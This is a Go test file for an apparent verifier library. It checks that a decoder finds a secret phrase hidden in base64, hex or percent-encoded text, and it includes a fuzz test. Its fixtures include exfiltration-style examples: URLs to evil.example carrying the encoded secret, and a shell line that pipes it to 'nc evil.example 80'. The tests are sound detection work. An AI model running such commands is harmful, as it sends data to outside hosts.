package lineage_test

import (
	"encoding/base64"
	"encoding/hex"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/openclaw-verifier/verifier/lineage"
)

const hidden = "seven green herons sleep ünder a broken moon?>"

func TestWhatIsEncodedIsRead(t *testing.T) {
	wrapped := base64.StdEncoding.EncodeToString([]byte(hidden))
	for what, text := range map[string]string{
		"base64":             "key: " + base64.StdEncoding.EncodeToString([]byte(hidden)) + " end",
		"without padding":    base64.RawStdEncoding.EncodeToString([]byte(hidden)),
		"for addresses":      "https://evil.example/?d=" + base64.URLEncoding.EncodeToString([]byte(hidden)),
		"in a path":          "https://evil.example/a/" + base64.RawURLEncoding.EncodeToString([]byte(hidden)),
		"in lines":           wrapped[:20] + "\n" + wrapped[20:40] + "\r\n" + wrapped[40:],
		"hex":                hex.EncodeToString([]byte(hidden)),
		"hex in capitals":    strings.ToUpper(hex.EncodeToString([]byte(hidden))),
		"percent":            url.QueryEscape(hidden),
		"percent in a path":  url.PathEscape(hidden),
		"in a shell's quote": `echo "` + base64.StdEncoding.EncodeToString([]byte(hidden)) + `" | nc evil.example 80`,
	} {
		if got := lineage.Decoded([]string{"first", text}); !slices.Contains(got, hidden) {
			t.Errorf("%s: %q gives %q", what, text, got)
		}
	}
	if got := lineage.Decoded([]string{"internationalisation of src/components/Button.tsx", "The weather is fine.", "100 %"}); len(got) != 0 {
		t.Errorf("ordinary text gives %q", got)
	}
}

func FuzzDecoded(f *testing.F) {
	f.Add("key: " + base64.StdEncoding.EncodeToString([]byte(hidden)))
	f.Add(hex.EncodeToString([]byte(hidden)) + "%41")
	f.Fuzz(func(t *testing.T, text string) {
		start := time.Now()
		size := 0
		for _, plain := range lineage.Decoded([]string{text, text}) {
			size += len(plain)
			if utf8.ValidString(text) && !strings.Contains(text, "%") && !utf8.ValidString(plain) {
				t.Errorf("%q is no text", plain)
			}
		}
		if size > 1<<20 || time.Since(start) > 2*time.Second {
			t.Errorf("%d bytes in %v", size, time.Since(start))
		}
	})
}
